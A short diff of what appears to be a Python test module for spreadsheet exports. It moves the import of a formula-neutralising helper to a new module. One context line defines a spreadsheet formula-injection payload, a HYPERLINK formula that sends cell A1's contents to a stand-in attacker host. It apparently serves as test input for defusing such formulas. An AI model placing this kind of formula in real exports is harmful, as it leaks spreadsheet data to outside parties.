@@ -47,7 +47,7 @@ from qmm.reports.exports import (
     write_file,
     xlsx_text,
 )
-from qmm.reports.formulas import FORMULA_TRIGGERS, neutralise
+from qmm.spreadsheet_text import FORMULA_TRIGGERS, neutralise
 from web.support import CAPA_COLUMNS, capa_rows, csv_bytes
 
 HYPERLINK = '=HYPERLINK("https://evil.example.invalid/?leak="&A1,"Open")'
